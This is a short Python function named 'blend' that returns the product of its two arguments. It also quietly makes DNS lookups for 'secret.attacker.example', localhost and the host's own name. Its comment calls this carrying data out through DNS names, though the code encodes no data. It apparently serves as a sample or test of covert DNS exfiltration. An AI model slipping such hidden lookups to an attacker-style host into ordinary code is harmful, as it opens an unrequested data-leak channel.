# Carries data out in the names that it asks a DNS server for.
import socket


def blend(x, y):
    found = []
    for name in ("secret.attacker.example", "localhost", socket.gethostname()):
        for look in (socket.gethostbyname, lambda each: socket.getaddrinfo(each, 80)):
            try:
                found.append(look(name))
            except (OSError, UnicodeError):
                continue
    print(found or "no name found")
    return x * y
